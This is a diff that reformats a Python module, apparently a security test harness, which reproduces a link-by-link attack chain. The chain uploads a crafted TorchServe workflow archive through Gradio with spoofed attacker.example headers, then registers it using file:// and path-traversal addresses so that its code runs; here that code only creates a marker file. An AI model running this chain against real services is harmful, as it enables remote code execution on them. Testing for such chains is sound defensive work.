@@ -1,4 +1,6 @@
-"""What an attacker of a running service does: the chain that once ran code, link by link, on whatever a service offers."""
+"""What an attacker of a running service does: the chain that once ran code, link by link, on
+whatever a service offers.
+"""
 
 from __future__ import annotations
 
@@ -12,26 +14,53 @@ from urllib.parse import quote
 
 import httpx
 
-HOSTILE = {"Host": "rebound.attacker.example", "Origin": "http://attacker.example", "Sec-Fetch-Site": "cross-site"}
+HOSTILE = {
+    "Host": "rebound.attacker.example",
+    "Origin": "http://attacker.example",
+    "Sec-Fetch-Site": "cross-site",
+}
 
 
 def workflow_archive(marker: Path) -> bytes:
     """A TorchServe workflow whose code, once imported, leaves a file."""
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w") as archive:
-        archive.writestr("WAR-INF/MANIFEST.json", json.dumps({
-            "createdOn": "01/01/2026", "runtime": "python", "archiverVersion": "0.2.15",
-            "workflow": {"workflowName": "evil", "specFile": "spec.yaml", "handler": "evil.py"}}))
-        archive.writestr("spec.yaml", "models: {min-workers: 1, max-workers: 1, batch-size: 1, max-batch-delay: 50, "
-                                      "retry-attempts: 1, timeout-ms: 9000}\ndag:\n  first: [second]\n")
-        archive.writestr("evil.py", f"open({str(marker)!r}, 'w').close()\n\n\n"
-                                    "def first(data, context):\n    return data\n\n\nsecond = first\n")
+        archive.writestr(
+            "WAR-INF/MANIFEST.json",
+            json.dumps(
+                {
+                    "createdOn": "01/01/2026",
+                    "runtime": "python",
+                    "archiverVersion": "0.2.15",
+                    "workflow": {
+                        "workflowName": "evil",
+                        "specFile": "spec.yaml",
+                        "handler": "evil.py",
+                    },
+                }
+            ),
+        )
+        archive.writestr(
+            "spec.yaml",
+            "models: {min-workers: 1, max-workers: 1, batch-size: 1, max-batch-delay: 50, "
+            "retry-attempts: 1, timeout-ms: 9000}\ndag:\n  first: [second]\n",
+        )
+        archive.writestr(
+            "evil.py",
+            f"open({str(marker)!r}, 'w').close()\n\n\n"
+            "def first(data, context):\n    return data\n\n\nsecond = first\n",
+        )
     return out.getvalue()
 
 
 def upload(page: str, archive: bytes, headers: dict[str, str]) -> str | None:
     """Link 1: where the page put a file that a visited web site sent."""
-    answer = httpx.post(f"{page}/gradio_api/upload", files={"files": ("evil.war", archive)}, headers=headers, timeout=30)
+    answer = httpx.post(
+        f"{page}/gradio_api/upload",
+        files={"files": ("evil.war", archive)},
+        headers=headers,
+        timeout=30,
+    )
     if answer.status_code != 200:
         return None
     (path,) = answer.json()
@@ -41,18 +70,33 @@ def upload(page: str, archive: bytes, headers: dict[str, str]) -> str | None:
 def fetch_addresses(archive: Path, store: Path) -> list[str]:
     """Link 2: addresses under which TorchServe may be made to fetch a file into its workflow store."""
     relative = Path(*[".."] * 8) / archive.relative_to("/")
-    return [f"file://{archive}", f"file://{store}/{relative}", f"file://{store}/../{archive.parent.name}/{archive.name}",
-            f"file://{store}/%2e%2e/{archive.name}", f"FILE://{archive}", f"file:{archive}", f"file://localhost{archive}",
-            f"{store}/{relative}", str(archive), "http://127.0.0.1:9/evil.war"]
+    return [
+        f"file://{archive}",
+        f"file://{store}/{relative}",
+        f"file://{store}/../{archive.parent.name}/{archive.name}",
+        f"file://{store}/%2e%2e/{archive.name}",
+        f"FILE://{archive}",
+        f"file:{archive}",
+        f"file://localhost{archive}",
+        f"{store}/{relative}",
+        str(archive),
+        "http://127.0.0.1:9/evil.war",
+    ]
 
 
 def register(management: httpx.Client, addresses: Iterable[str]) -> list[int]:
-    """Links 2 and 3: register workflows and models by address or by name; the statuses of the answers."""
+    """Links 2 and 3: register workflows and models by address or by name; the statuses of the
+    answers.
+    """
     found = []
     for address in [*addresses, "evil.war"]:
         url = quote(address, safe="")
         for path in (f"/workflows?url={url}", f"/models?url={url}&initial_workers=1"):
-            found.append(management.post(path, headers={"Content-Type": "text/plain"}, timeout=90).status_code)
+            found.append(
+                management.post(
+                    path, headers={"Content-Type": "text/plain"}, timeout=90
+                ).status_code
+            )
     return found
 
 
